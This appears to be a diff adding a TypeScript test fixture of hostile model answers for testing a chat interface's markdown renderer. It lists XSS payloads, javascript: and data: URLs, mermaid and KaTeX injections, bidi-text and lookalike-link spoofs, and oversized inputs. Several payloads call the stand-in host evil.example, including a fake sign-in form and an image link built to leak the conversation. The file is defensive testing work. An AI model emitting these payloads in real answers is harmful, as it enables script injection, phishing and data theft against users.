@@ -1,0 +1,173 @@
+/** One answer that wants more than to be read. */
+export interface HostileAnswer {
+  name: string;
+  text: string;
+}
+
+/** Where everything in them wants to go; nobody may ever be asked there. */
+export const EVIL = 'evil.example';
+
+const HTML: readonly string[] = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="https://evil.example/pixel.png">',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="https://evil.example/x.swf"></object>',
+  '<embed src="https://evil.example/x">',
+  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<style>*{display:none} body{background:url(https://evil.example/x)}</style>',
+  '<div style="position:fixed;inset:0;background:red">over everything</div>',
+  '<body onload=alert(1)>',
+  '<a href="javascript:alert(1)" onclick="alert(1)">click</a>',
+  '<video src="https://evil.example/x.mp4" autoplay onerror=alert(1)></video>',
+  '<audio src="https://evil.example/x.mp3" autoplay>',
+  '<details open ontoggle=alert(1)>',
+  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<!--><script>alert(1)</script>-->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?xml-stylesheet href="https://evil.example/x.xsl"?>',
+  '<input autofocus onfocus=alert(1)>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  'text <b onmouseover=alert(1)>bold</b> text',
+  '<dialog open>Your session has ended. <a href="https://evil.example">Sign in</a></dialog>',
+];
+
+const URLS: readonly string[] = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  ' javascript:alert(1)',
+  'java\tscript:alert(1)',
+  'java&#10;script:alert(1)',
+  'java&Tab;script:alert(1)',
+  '&#106;&#97;&#118;&#97;script:alert(1)',
+  'javascript&colon;alert(1)',
+  '\u0001javascript:alert(1)',
+  'javascript:https://evil.example/%0aalert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'DATA:image/svg+xml,<svg onload=alert(1)>',
+  'vbscript:msgbox(1)',
+  'VBSCRIPT:msgbox(1)',
+  'file:///etc/passwd',
+  'blob:https://evil.example/1',
+  'filesystem:https://evil.example/temporary/x',
+  'view-source:https://evil.example',
+  'about:blank',
+  'chrome://settings',
+  'intent://evil.example#Intent;scheme=https;end',
+  'tel:+1900123456',
+  'ws://evil.example',
+  'ftp://evil.example/x',
+  '//evil.example/x',
+  '\\\\evil.example\\x',
+  '/api/keys',
+  '#root',
+  '?code=1&state=2',
+  'https://',
+  'mailto:',
+];
+
+const OTHERS: Record<string, string> = {
+  'autolink to a script': '<javascript:alert(1)> <data:text/html,x>',
+  'reference to a script': '[a][x]\n\n[x]: javascript:alert(1)',
+  'title that breaks out': '[a](https://evil.example "x\\" onmouseover=alert(1) y=\\"")',
+  'link that looks like another': '[https://bank.example](https://evil.example/login)',
+  'link with a user that looks like a host': '[bank](https://bank.example@evil.example/)',
+  'link with letters that look alike': '[apple](https://аррӏе.example/)',
+  'picture in a link': '[![a](https://evil.example/a.png)](https://evil.example)',
+  'picture of data': '![a](data:image/svg+xml;base64,PHN2Zy8+)',
+  'picture by reference': '![a][p]\n\n[p]: https://evil.example/p.png',
+  'picture that tells what was said': '![x](https://evil.example/?q=everything%20we%20talked%20about)',
+  'picture of the relay itself': '![x](/api/me)',
+  'footnote with a script':
+    'A[^"onclick=alert(1)].\n\n[^"onclick=alert(1)]: [x](javascript:alert(1)) <img src=x onerror=alert(1)>',
+  'footnote that hides as another element': 'A[^root].\n\n[^root]: x\n\n[back](#root)',
+  'formula with a link': '$\\href{javascript:alert(1)}{x}$ and \\(\\url{https://evil.example}\\)',
+  'formula with a picture': '$$\n\\includegraphics[height=1em]{https://evil.example/x.png}\n$$',
+  'formula with HTML':
+    '$\\htmlStyle{position:fixed;inset:0}{x}$ $\\htmlData{a=b}{x}$ $\\htmlClass{fixed}{x}$ $\\htmlId{root}{x}$',
+  'formula without end': '$\\def\\a{\\a\\a}\\a$',
+  'formula that swells': '$$\n\\def\\a#1{#1#1#1#1}\\def\\b#1{\\a{\\a{\\a{#1}}}}\\b{\\b{\\b{x}}}\n$$',
+  'formula as large as the page': '$\\rule{9999em}{9999em}$ $\\kern{9999em}x$ $\\huge\\raisebox{9999em}{x}$',
+  'formula that redefines': '$\\gdef\\frac#1#2{owned}$ and $\\frac{1}{2}$',
+  'formula of many brackets': `$${'{'.repeat(2_000)}x${'}'.repeat(2_000)}$`,
+  'diagram with a click':
+    '```mermaid\nflowchart LR\n  A-->B\n  click A "javascript:alert(1)"\n  click B call alert(1)\n```',
+  'diagram with a link': '```mermaid\nflowchart LR\n  A-->B\n  click A href "https://evil.example" _top\n```',
+  'diagram with settings':
+    '```mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "*{background:url(https://evil.example/x)}", "fontFamily": "x;} *{background:url(https://evil.example/y)}"}}%%\nflowchart LR\n  A["<img src=x onerror=alert(1)>"]-->B["<script>alert(1)</script>"]\n```',
+  'diagram with front matter':
+    '```mermaid\n---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\nflowchart LR\n  A["<iframe src=https://evil.example>"]\n```',
+  'diagram with HTML in a sequence':
+    '```mermaid\nsequenceDiagram\n  A->>B: <img src="https://evil.example/s.png" onerror="parent.alert(1)">\n  link A: Evil @ javascript:alert(1)\n```',
+  'diagram with a picture':
+    '```mermaid\nflowchart TD\n  A@{ img: "https://evil.example/i.png", label: "x", w: 60, h: 60 }\n```',
+  'diagram that is none': '```mermaid\nthis is no diagram <script>alert(1)</script>\n```',
+  'diagram of many arrows': `\`\`\`mermaid\nflowchart LR\n${'  A-->B\n'.repeat(2_000)}\`\`\``,
+  'languages that are names of objects': ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf']
+    .map((name) => `\`\`\`${name}\nx\n\`\`\``)
+    .join('\n'),
+  'language with markup': '```"><img src=x onerror=alert(1)>\nx\n```\n\n```ts onload=alert(1) style=x\nx\n```',
+  'text that turns around':
+    'Delete \u202egnp.exe\u202c and \u2066x\u2069 \u200f [\u202emoc.knab\u202c](https://evil.example)',
+  'code that turns around': '```js\nif (admin) { /*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\n```',
+  'letters under towers of marks': `Z${'\u0300\u0334\u0489'.repeat(300)}a${'\u0316'.repeat(500)}lgo`,
+  'control characters': '\u0000\u0007\u001b[31mred\u001b[0m \ufeff \ufffe',
+  'line without end': 'a'.repeat(190_000),
+  'words without end': 'word '.repeat(38_000),
+  'quotes in quotes': `${'>'.repeat(10_000)} deep`,
+  'quotes in quotes, spaced': `${'> '.repeat(10_000)}deep`,
+  'lists in lists': `${'- '.repeat(10_000)}deep`,
+  'lists in lists, line by line': Array.from({ length: 400 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
+  'numbers in lists': `${'1. '.repeat(5_000)}deep`,
+  'emphasis without end': '*a **a '.repeat(5_000),
+  'emphasis in emphasis': `${'*a _b '.repeat(300)}${'_ *'.repeat(300)}`,
+  stars: '*'.repeat(19_000),
+  'underscores and letters': '_a'.repeat(9_000),
+  'brackets that open': '['.repeat(19_000),
+  'brackets and parentheses': '[a]('.repeat(4_000),
+  'pictures that open': '!['.repeat(9_000),
+  'angles that open': '<a '.repeat(6_000),
+  'comments that open': '<!-- '.repeat(3_000),
+  'ticks of all lengths': Array.from({ length: 190 }, (_, count) => '`'.repeat(count)).join(' '),
+  tildes: '~~a'.repeat(6_000),
+  dollars: '$a '.repeat(6_000),
+  entities: '&#x41;&amp;'.repeat(1_700),
+  'footnotes without end': '[^a] '.repeat(3_000) + '\n\n[^a]: [^a]',
+  'definitions without end': Array.from(
+    { length: 3_000 },
+    (_, index) => `[a${index}]: https://evil.example/${index}`,
+  ).join('\n'),
+  'table as wide as a field': `|${'a|'.repeat(900)}\n|${'-|'.repeat(900)}\n|${'b|'.repeat(900)}`,
+  'table without end': `|a|b|\n|-|-|\n${'|c|d|\n'.repeat(20_000)}`,
+  'table of pipes': `${'|'.repeat(9_000)}\n${'|-'.repeat(4_000)}`,
+  'blocks without end': 'a\n\n'.repeat(60_000),
+  'rules without end': '---\n'.repeat(40_000),
+  'code without end': `\`\`\`ts\n${'const a = `${b}`; // c\n'.repeat(8_000)}`,
+  'code in one line': `\`\`\`js\n${'a('.repeat(50_000)}\n\`\`\``,
+  'code that is hard to read': `\`\`\`html\n${'<a b="'.repeat(3_000)}\n\`\`\`\n\n\`\`\`md\n${'*'.repeat(5_000)}\n\`\`\``,
+  'fences that open': '```\n'.repeat(3_001),
+  'addresses without end': 'https://evil.example/a '.repeat(800),
+  'addresses that are long': `https://evil.example/${'a'.repeat(19_000)}`,
+  'mail without end': 'a@evil.example '.repeat(1_200),
+  'windows lines': '# a\r\n\r\n```js\r\nx\r\n```\r\n\r\n- a\r\n- b\r\n',
+};
+
+/** What a model may say at its worst: asked to by a web page that it has read, or by whoever trained it. */
+export const HOSTILE_ANSWERS: readonly HostileAnswer[] = [
+  ...HTML.map((text) => ({ name: `HTML: ${text.slice(0, 60)}`, text })),
+  ...URLS.map((url) => ({
+    name: `address: ${JSON.stringify(url.slice(0, 60))}`,
+    text: `[link](${url}) [angle](<${url}>) ![picture](${url})\n\n[ref]\n\n[ref]: ${url}`,
+  })),
+  ...Object.entries(OTHERS).map(([name, text]) => ({ name, text })),
+];
